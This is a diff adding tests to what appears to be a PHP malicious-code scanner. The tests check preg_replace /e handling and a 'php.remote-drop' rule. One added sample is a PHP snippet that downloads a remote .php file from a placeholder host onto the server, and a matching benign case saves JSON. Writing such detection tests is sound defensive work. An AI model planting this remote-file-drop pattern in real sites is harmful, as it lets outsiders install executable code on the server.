@@ -485,3 +485,14 @@ def test_preg_replace_e_with_a_pattern_built_by_xor():
 
 def test_old_style_preg_replace_e_with_a_fixed_pattern_is_clean():
     _clean("<?php $s = preg_replace('/(\\\\w+)/e', 'strtoupper(\"\\\\1\")', 'abc'); echo $s;")
+
+
+def test_known_conditions_pick_their_side_of_a_ternary():
+    code = ("<?php function fetch($url, $file = '') { $file = empty($file) ? basename($url) : $file;"
+            " copy($url, $file); } fetch('http://example.test/k/t1.php');")
+    _shell(code, rule="php.remote-drop")
+
+
+def test_a_fetch_helper_saving_data_is_clean():
+    _clean("<?php function fetch($url, $file = '') { $file = empty($file) ? basename($url) : $file;"
+           " copy($url, $file); } fetch('http://example.test/k/rates.json');")
